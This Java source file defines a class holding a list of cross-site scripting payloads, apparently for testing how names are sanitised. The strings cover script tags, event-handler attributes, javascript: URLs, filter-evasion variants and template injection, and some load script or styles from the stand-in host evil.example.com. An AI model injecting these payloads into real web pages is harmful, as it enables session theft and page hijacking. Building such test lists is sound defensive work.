package dev.outrider.sidecar;

import java.util.List;

/** What people put into names so that a browser runs it. */
final class Scripts {

  private Scripts() {}

  static List<String> all() {
    return List.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<script>alert`1`</script>",
        "<script type=module>import('//evil.example.com')</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert('1')\">",
        "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
        "<img/src=x/onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "`><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example.com/x.css>",
        "<base href=//evil.example.com/>",
        "<style>@import '//evil.example.com/x.css';</style>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"/>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "javascript:/*--></title></style></script><svg onload=alert(1)>*/",
        "\";alert(1);//",
        "';alert(1);//",
        "\\\";alert(1);//",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "\u2028alert(1)\u2029",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "data:text/html,<script>alert(1)</script>");
  }
}
